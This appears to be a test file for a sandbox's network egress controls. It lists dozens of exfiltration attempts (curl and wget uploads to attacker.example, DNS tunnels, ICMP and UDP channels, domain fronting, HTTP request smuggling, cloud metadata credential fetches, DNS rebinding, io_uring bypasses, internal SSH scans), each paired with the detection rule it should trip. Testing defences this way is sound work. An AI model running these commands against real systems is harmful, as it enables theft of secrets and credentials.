@@ -1,0 +1,314 @@
+"""What would leave by the network, and what it would reach."""
+from network import PROSE, NetAttempt, carried, forms, told, touched
+
+NOT_ALLOWED = "host_not_allowed"
+# Any address that no name stands for.
+PUBLIC = "93.184.216.34"
+INWARD = ("10.", "172.16.", "192.168.", "127.0.0.1:", "169.254.", "100.100.", "fd00:")
+WILD = '{ host = "*.carrier.example" }'
+TENANTS = '{ host = "multi.example", methods = ["GET", "POST"], paths = ["/mine/**"] }'
+
+
+def refused(number, name, technique, attack, **more):
+    """To a host that nobody allowed. A program that asks for one may only have been set up so: it is no alarm by itself."""
+    return NetAttempt(number, name, technique, attack, rule=NOT_ALLOWED, alert=False, **more)
+
+
+def whole(outcome):
+    """All of it in small pieces, one after the other."""
+    return any(PROSE.replace(" ", "") in form for data in told(outcome.reached) for form in forms(data))
+
+
+def page(outcome):
+    return sum(len(b"".join(r["data"].split(b".")[:-2])) // 2 for r in outcome.reached if r["kind"] == "query") > 2000
+
+
+def to_tenant(outcome):
+    return any(r["kind"] == "request" and b"/other" in r["data"] for r in outcome.reached)
+
+
+def inward(outcome):
+    return any(r["to"].startswith(INWARD) for r in outcome.reached)
+
+
+def encoded(name, code, rule="passage_leaves", technique="T1041"):
+    return NetAttempt(16, f"{name} of what was read", technique, code + '\nweb("http://inspected.example/in", sent, {"Content-Type": "text/plain; charset=utf-8"})\n',
+                      rule=rule, effect=carried)
+
+
+SOCKS = """
+def relay(listener):
+    # One that checks the end of a name and then, as C does, takes what stands before a NUL for the whole.
+    while True:
+        peer, _ = listener.accept()
+        asked = peer.recv(4096)
+        host = asked[: asked.index(b"\\n")].decode()
+        if host.endswith(".friend.example"):
+            heard = talk(host.split(chr(0))[0], 80, b"GET /?" + secret.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+            peer.sendall(b"done")
+        peer.close()
+listener = socket.create_server(("127.0.0.1", 0))
+threading.Thread(target=relay, args=(listener,), daemon=True).start()
+with socket.create_connection(listener.getsockname()) as s:
+    s.sendall(b"attacker.example\\0.friend.example\\n")
+    s.recv(10)
+"""
+
+RELAY = """
+def relay(listener):
+    while True:
+        peer, _ = listener.accept()
+        talk("%s", 80, peer.recv(65536))
+        peer.close()
+listener = socket.create_server(("127.0.0.1", 0))
+threading.Thread(target=relay, args=(listener,), daemon=True).start()
+with socket.create_connection(listener.getsockname()) as s:
+    s.sendall(b"GET /?" + secret.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+    s.recv(10)
+""" % PUBLIC
+
+IO_URING = """
+import mmap
+mark()
+parameters = ctypes.create_string_buffer(120)
+ring = call(425, 4, parameters)
+print("ring", ring)
+if ring >= 0:
+    v = struct.unpack("30I", parameters.raw)
+    sq, cq = v[10:20], v[20:30]
+    room = mmap.mmap(ring, max(sq[6] + v[0] * 4, cq[5] + v[1] * 16), flags=mmap.MAP_SHARED, offset=0)
+    entries = mmap.mmap(ring, v[0] * 64, flags=mmap.MAP_SHARED, offset=0x10000000)
+    s = socket.socket()
+    to = ctypes.create_string_buffer(struct.pack("=HHI8x", 2, socket.htons(80), struct.unpack("=I", socket.inet_aton("PUBLIC"))[0]))
+    data = ctypes.create_string_buffer(b"GET /?" + secret.encode() + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+    def submit(code, at, length, offset):
+        tail = struct.unpack_from("I", room, sq[1])[0]
+        entries[0:64] = struct.pack("=BBHiQQIIQ24x", code, 0, 0, s.fileno(), offset, at, length, 0, 0)
+        struct.pack_into("I", room, sq[6] + (tail & (v[0] - 1)) * 4, 0)
+        struct.pack_into("I", room, sq[1], tail + 1)
+        print("entered", call(426, ring, 1, 1, 1, 0, 0))
+    submit(16, ctypes.addressof(to), 0, 16)
+    submit(26, ctypes.addressof(data), len(data.raw) - 1, 0)
+    time.sleep(0.3)
+""".replace("PUBLIC", PUBLIC)
+
+GIT = """
+environment = {**os.environ, "HOME": "/tmp", "GIT_TERMINAL_PROMPT": "0", "GIT_CONFIG_NOSYSTEM": "1"}
+os.makedirs("/tmp/repository")
+os.chdir("/tmp/repository")
+subprocess.run(["cp", W + "/report.txt", "."], check=True)
+for words in (["init", "-q"], ["add", "."], ["-c", "user.name=a", "-c", "user.email=a@friend.example", "commit", "-qm", "a note"]):
+    subprocess.run(["git", *words], check=True, env=environment)
+run("git", "push", "http://inspected.example/repository.git", "HEAD:refs/heads/main", env=environment)
+"""
+
+ATTEMPTS = [
+    refused(1, "POST to an unknown host", "T1041|T1071.001", f"""
+web("http://attacker.example/in", report)
+web("http://{PUBLIC}/in", report)
+web("https://{PUBLIC}/in", report)
+"""),
+    NetAttempt(1, "POST to an allowed host", "T1041", 'web("http://inspected.example/in", report)', rule="passage_leaves", effect=carried),
+    NetAttempt(1, "POST over TLS to an allowed host", "T1041", 'web("https://inspected.example/in", report)', rule="passage_leaves", effect=carried),
+    NetAttempt(1, "POST in HTTP to an allowed host", "T1041", 'web("http://opaque.example/in", report)', allow=['{ host = "opaque.example" }'],
+               rule="passage_leaves", effect=carried),
+    NetAttempt(1, "a key in a request", "T1041", 'web("http://inspected.example/in?key=" + KEY, secret)', rule="secret_leaves", effect=carried),
+    refused(2, "curl, wget", "T1041|T1071.001", f"""
+run("curl", "-sS", "-m", "5", "--data-binary", "@" + W + "/report.txt", "http://{PUBLIC}/")
+run("wget", "-q", "-T", "5", "-t", "1", "-O", "-", "--post-file", W + "/report.txt", "http://attacker.example/")
+run("curl", "-sS", "-m", "5", "--resolve", "friend.example:80:{PUBLIC}", "-T", W + "/report.txt", "http://friend.example/in")
+"""),
+    refused(3, "plain HTTP", "T1071.001", f'talk("{PUBLIC}", 80, "GET /?" + secret + " HTTP/1.0\\r\\nHost: friend.example\\r\\n\\r\\n")'),
+    refused(3, "FTP", "T1048.003", f'talk("{PUBLIC}", 21, "USER me\\r\\n", "PASS " + secret + "\\r\\n")'),
+    refused(4, "SSH", "T1021.004|T1048", f'talk("{PUBLIC}", 22, "SSH-2.0-" + secret + "\\r\\n")'),
+    NetAttempt(5, "data in names below an allowed domain", "T1071.004", """
+for n, piece in enumerate(pieces(report.encode().hex(), 60)[:40]):
+    query(f"{piece}.n{n}.carrier.example")
+""", allow=[WILD], rule="dns_tunnel", effect=carried),
+    # Below every limit something always fits; what a domain gets in ten minutes is a page at most.
+    NetAttempt(5, "the same in short words", "T1071.004", """
+for turn in range(6):
+    turned = "".join(chr(97 + (ord(c) - 97 + turn) % 26) for c in report.lower() if c.isalpha())
+    for piece in pieces(turned.encode().hex(), 12):
+        query(f"{piece}.carrier.example")
+""", allow=[WILD], rule="dns_tunnel", effect=page),
+    refused(6, "cloud storage", "T1567.002", """
+if ARM == "bare":
+    web("http://my-bucket.s3.amazonaws.com/x", report, method="PUT")
+for host in ("my-bucket.s3.amazonaws.com", "storage.googleapis.com", "me.blob.core.windows.net", "content.dropboxapi.com"):
+    web(f"https://{host}/x", report, method="PUT")
+"""),
+    refused(7, "webhook", "T1567.004", """
+for host in ("hooks.slack.com", "discord.com", "webhook.site", "me.webhook.office.com"):
+    web(f"https://{host}/services/x", report)
+"""),
+    NetAttempt(8, "small chunks", "T1030", """
+for piece in pieces(report.replace(" ", ""), 6):
+    web("http://small.example/", "piece=" + urllib.parse.quote(piece, safe=""))
+""", allow=['{ host = "small.example", upload_bytes = 400 }'], rule="over_budget", effect=whole),
+    NetAttempt(8, "small chunks within TLS", "T1030", """
+for piece in pieces(report.replace(" ", ""), 6):
+    web("https://small.example/", "piece=" + urllib.parse.quote(piece, safe=""))
+""", allow=['{ host = "small.example", upload_bytes = 20000 }'], rule="over_budget", effect=whole),
+    NetAttempt(9, "web protocol, polling", "T1071.001", f"""
+for n in range(15):
+    web("http://{PUBLIC}/poll?" + secret)
+""", rule="many_connections"),
+    NetAttempt(10, "DNS protocol: TXT, NULL", "T1071.004", """
+for n, piece in enumerate(pieces(report.encode().hex(), 60)[:20]):
+    query(f"{piece}.n{n}.carrier.example", kind=16)
+    query(f"{piece}.n{n}.carrier.example", kind=10)
+""", allow=[WILD], rule="dns_tunnel"),
+    refused(10, "DNS of another server", "T1071.001|T1041|T1571", """
+for tcp in (False, True):
+    query(secret + ".attacker.example", server="8.8.8.8", tcp=tcp)
+"""),
+    refused(11, "DNS over HTTPS, over TLS", "T1071.001|T1571", """
+asked = b"\\0\\0\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(secret)]) + secret.encode() + b"\\7example\\0\\0\\1\\0\\1"
+web("https://8.8.8.8/dns-query", asked, {"Content-Type": "application/dns-message"})
+talk("8.8.8.8", 853, struct.pack("!H", len(asked)) + asked)
+talk("1.1.1.1", 443, b"POST /dns-query HTTP/1.1\\r\\nHost: dns.google\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(asked) + asked, tls="dns.google")
+"""),
+    NetAttempt(11, "a tunnel through an allowed port", "T1571", 'talk("opaque.example", 443, b"\\0\\1tunnel" + secret.encode())\n'
+               'talk("opaque.example", 80, b"SSH-2.0-" + secret.encode() + b"\\r\\n")', allow=['{ host = "opaque.example" }'], rule="odd_protocol", alert=False),
+    NetAttempt(12, "proxy chain", "T1090.003|T1071.001", """
+for host in ("opaque.example", "inspected.example"):
+    talk(host, 80, "CONNECT attacker.example:80 HTTP/1.1\\r\\nHost: attacker.example:80\\r\\n\\r\\n", "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n")
+""", allow=['{ host = "opaque.example" }'], rule="bad_request", alert=False),
+    NetAttempt(13, "fronting: Host", "T1090.004", """
+said = "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n"
+talk("inspected.example", 80, said)
+talk("inspected.example", 80, said.replace("GET /", "GET http://attacker.example/"))
+talk("inspected.example", 443, said, tls="inspected.example")
+""", rule="fronting"),
+    NetAttempt(13, "fronting: SNI", "T1090.004", """
+said = "GET /?" + secret + " HTTP/1.1\\r\\nHost: attacker.example\\r\\n\\r\\n"
+talk("inspected.example", 443, said, tls="attacker.example")
+talk("opaque.example", 443, said, tls="attacker.example")
+""", allow=['{ host = "opaque.example" }'], rule="fronting"),
+    NetAttempt(14, "ICMP", "T1095", f"""
+datagram("{PUBLIC}", 0, b"\\x08\\0\\0\\0\\0\\1\\0\\1" + secret.encode(), protocol=socket.IPPROTO_ICMP)
+datagram("{PUBLIC}", 0, b"\\x08\\0\\0\\0\\0\\1\\0\\1" + secret.encode(), kind=socket.SOCK_RAW, protocol=socket.IPPROTO_ICMP)
+""", rule="cell."),
+    NetAttempt(14, "UDP", "T1095", f"""
+for port in (123, 500, 31337):
+    datagram("{PUBLIC}", port, secret.encode())
+""", rule="cell.packet"),
+    refused(15, "odd ports", "T1571", f"""
+for port in (4444, 6667, 31337):
+    talk("{PUBLIC}", port, secret)
+    talk("inspected.example", port, secret)
+"""),
+    encoded("base64", "sent = base64.b64encode(report.encode()).decode()"),
+    encoded("hex", "sent = report.encode().hex()"),
+    encoded("rot13", 'sent = codecs.encode(report, "rot13")'),
+    encoded("gzip", "sent = gzip.compress(report.encode())"),
+    encoded("base64 of gzip", "sent = base64.b64encode(gzip.compress(report.encode())).decode()"),
+    encoded("text backwards", "sent = report[::-1]"),
+    encoded("look-alike letters", 'sent = report.translate(str.maketrans("aceyo", "\\u0430\\u0441\\u0435\\u0443\\u043e"))',
+            rule="hidden_data_leaves", technique="T1027"),
+    encoded("invisible letters", """sent = "a note" + "".join("\\u200b\\u200c"[b >> n & 1] for b in report.encode() for n in range(7, -1, -1)) + " from me" """,
+            rule="hidden_data_leaves", technique="T1027"),
+    NetAttempt(19, "git push", "T1041", GIT, rule="_leaves|cannot_inspect", effect=carried),
+    NetAttempt(19, "curl -T", "T1041", 'run("curl", "-sS", "-m", "5", "-T", W + "/report.txt", "http://inspected.example/in")', rule="passage_leaves", effect=carried),
+    NetAttempt(19, "a header of git's", "T1041", 'run("git", "-c", "http.extraHeader=X-Note: " + report[:600], "ls-remote", "http://inspected.example/x.git", env={**os.environ, "HOME": "/tmp"})',
+               rule="passage_leaves", effect=carried),
+    NetAttempt(20, "metadata address, every notation", "T1552.005", """
+for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "0251.254.0xa9.254", "169.254.43518", "[::ffff:169.254.169.254]",
+             "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "metadata.friend.example", "metadata.carrier.example"):
+    print(web(f"http://{host}/instance/" + secret))
+""", allow=[WILD, '{ host = "metadata.friend.example" }'], rule="metadata_address", effect=inward),
+    NetAttempt(21, "an allowed name with a private address", "T1046", """
+for name in ("inward.carrier.example", "loop.carrier.example"):
+    web(f"http://{name}/?" + secret)
+""", allow=[WILD], rule="private_address", effect=inward),
+    NetAttempt(21, "DNS rebinding", "T1046", """
+name = "rebind-%d.carrier.example" % time.time_ns()
+assert web(f"http://{name}/") == "fine\\n"
+web(f"http://{name}/?" + secret)
+if ARM == "cell":
+    # What the name stood for is not believed for longer than a minute.
+    time.sleep(61)
+web(f"http://{name}/?" + secret)
+""", allow=[WILD], rule="private_address", effect=inward, limit=150),
+    NetAttempt(22, "request smuggling, CRLF", "T1071.001|T1041", """
+inner = "GET /other/?" + secret + " HTTP/1.1\\r\\nHost: multi.example\\r\\n\\r\\n"
+def smuggle(head, body):
+    talk("multi.example", 80, "POST /mine/x HTTP/1.1\\r\\nHost: multi.example\\r\\n" + head + "\\r\\n\\r\\n" + body)
+length = len(inner) + 5
+smuggle(f"Content-Length: {length}\\r\\nTransfer-Encoding: chunked", "0\\r\\n\\r\\n" + inner)
+smuggle(f"Transfer-Encoding: chunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
+smuggle(f"Transfer-Encoding : chunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
+smuggle(f"Transfer-Encoding: xchunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
+smuggle(f"Transfer-Encoding:\\r\\n chunked\\r\\nContent-Length: {length}", "0\\r\\n\\r\\n" + inner)
+smuggle(f"Content-Length: 0\\r\\nContent-Length: {len(inner)}", inner)
+smuggle(f"Content-Length: +{len(inner)}", inner)
+smuggle("X: a\\nTransfer-Encoding: chunked\\r\\nContent-Length: %d" % length, "0\\r\\n\\r\\n" + inner)
+smuggle("Content-Length: 0", inner)
+talk("multi.example", 80, "GET /mine/x%0d%0aX:%20y HTTP/1.1\\r\\nHost: multi.example\\r\\n\\r\\n")
+talk("multi.example", 80, "GET /mine/x HTTP/1.1\\nHost: multi.example\\n\\n" + inner)
+talk("multi.example", 80, "GET /mine/x HTTP/1.1\\r\\nHost: multi.example\\r\\nX: a\\rGET /other/ HTTP/1.1\\r\\n\\r\\n")
+""", allow=[TENANTS], rule="bad_request", alert=False, effect=to_tenant),
+    # In a cell the kernel does not do it, as on many machines; programs then connect as usual.
+    refused(23, "TCP Fast Open", "T1571", f"""
+mark()
+to = struct.pack("=HHI8x", 2, socket.htons(31337), struct.unpack("=I", socket.inet_aton("{PUBLIC}"))[0])
+with socket.socket() as s:
+    s.setblocking(True)
+    sent = libc.sendto(s.fileno(), secret.encode(), len(secret), 0x20000000, to, 16)
+    print("sent", sent, ctypes.get_errno())
+    if sent > 0:
+        s.settimeout(5)
+        s.recv(10)
+if sent < 0:
+    talk("{PUBLIC}", 31337, secret)
+"""),
+    NetAttempt(23, "Multipath TCP", "T1571|T1095", f"""
+mark()
+try:
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
+        s.connect(("{PUBLIC}", 8262))
+        s.sendall(secret.encode())
+        s.recv(10)
+except OSError as e:
+    print("no:", e)
+""", rule="host_not_allowed|cell.seccomp", alert=False),
+    NetAttempt(23, "QUIC and other UDP", "T1095", f"""
+for port in (443, 4500, 5353):
+    datagram("{PUBLIC}", port, secret.encode())
+datagram("2606:2800:220:1::34", 443, secret.encode(), family=socket.AF_INET6)
+""", rule="cell.packet"),
+    NetAttempt(23, "io_uring", "T1611|T1071.001", IO_URING, rule="cell.seccomp"),
+    refused(24, "NUL in a SOCKS host", "T1041", SOCKS),
+    refused(25, "relay inside the cell", "T1071.001", RELAY),
+    NetAttempt(26, "push to another account", "T1567", """
+for path in ("/other/repo", "/mine/../other/repo", "/mine/%2e%2e/other/repo", "/mine/..%2fother/repo", "//other/repo", "/mine/./../other/repo"):
+    talk("multi.example", 80, f"POST {path} HTTP/1.1\\r\\nHost: multi.example\\r\\nContent-Length: {len(secret)}\\r\\n\\r\\n{secret}")
+web("https://multi.example/other/repo", secret)
+web("http://multi.example/mine/repo", secret, method="DELETE")
+""", allow=[TENANTS], rule="request_not_allowed", alert=False, effect=to_tenant),
+    NetAttempt(29, "a file's name in a request", "T1041", """
+name = "report-" + KEY + "-" + secret + ".txt"
+body = f'--x\\r\\nContent-Disposition: form-data; name="f"; filename="{name}"\\r\\n\\r\\nnothing\\r\\n--x--\\r\\n'
+web("http://inspected.example/in", body, {"Content-Type": "multipart/form-data; boundary=x"})
+""", rule="secret_leaves", effect=carried),
+    NetAttempt(29, "headers as the carrier", "T1041", """
+web("http://inspected.example/", headers={"X-Trace": report[:500]})
+web("http://inspected.example/", headers={"User-Agent": base64.b64encode(report[:500].encode()).decode()})
+""", rule="passage_leaves", effect=carried),
+    NetAttempt(33, "metadata service", "T1552.005", """
+token = web("http://169.254.169.254/instance/api/token", "", {"X-aws-ec2-metadata-token-ttl-seconds": "60"}, method="PUT")
+for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "[fd00:ec2::254]"):
+    print(web(f"http://{address}/instance/credentials/" + secret, headers={"Metadata": "true"}))
+""", rule="metadata_address"),
+    NetAttempt(50, "SSH to other hosts", "T1021.004", """
+for host in ("10.0.0.5", "192.168.1.7", "172.16.3.3", "127.0.0.1", "fd00::5"):
+    talk(host, 22, "SSH-2.0-" + secret + "\\r\\n")
+""", rule="private_address", effect=touched),
+    NetAttempt(52, "scan", "T1046", """
+for n in range(1, 15):
+    talk(f"10.0.0.{n}", 22)
+    if n < 4:
+        talk(f"10.0.0.{n}", 5432)
+""", rule="many_destinations", effect=touched),
+]
